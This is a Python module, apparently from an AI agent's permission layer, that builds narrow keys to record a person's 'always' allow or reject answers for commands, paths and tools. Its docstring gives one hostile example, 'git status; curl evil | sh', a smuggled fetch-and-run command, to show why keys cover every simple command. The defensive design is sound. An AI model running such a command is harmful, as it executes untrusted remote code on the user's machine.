"""Grants: what a person's "always" answer records, and the narrow keys they are filed under.

A grant key names exactly what was approved or rejected:

- a shell command: ``cmd:`` + the JSON of every simple command's argv, in order, so
  approving `git status` never approves `git status; curl evil | sh`;
- a path tool: ``path:`` + the tool name + the canonical path;
- any other tool: ``tool:`` + the tool name.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from enum import StrEnum

__all__ = ["GrantEffect", "command_grant_key", "path_grant_key", "tool_grant_key"]


class GrantEffect(StrEnum):
    """What an "always" answer recorded: allow the same call again, or reject it."""

    ALLOW = "allow"
    REJECT = "reject"


def command_grant_key(simple_commands: Sequence[Sequence[str]]) -> str:
    """Key for an exact parsed command: every simple command's argv, in order."""
    return "cmd:" + json.dumps([list(argv) for argv in simple_commands], ensure_ascii=False)


def path_grant_key(tool: str, canonical_paths: Sequence[str]) -> str:
    """Key for a path tool on exactly these canonical paths."""
    return "path:" + json.dumps([tool, sorted(canonical_paths)], ensure_ascii=False)


def tool_grant_key(tool: str) -> str:
    """Key for a tool with no finer scope (no command, no path)."""
    return "tool:" + json.dumps(tool, ensure_ascii=False)
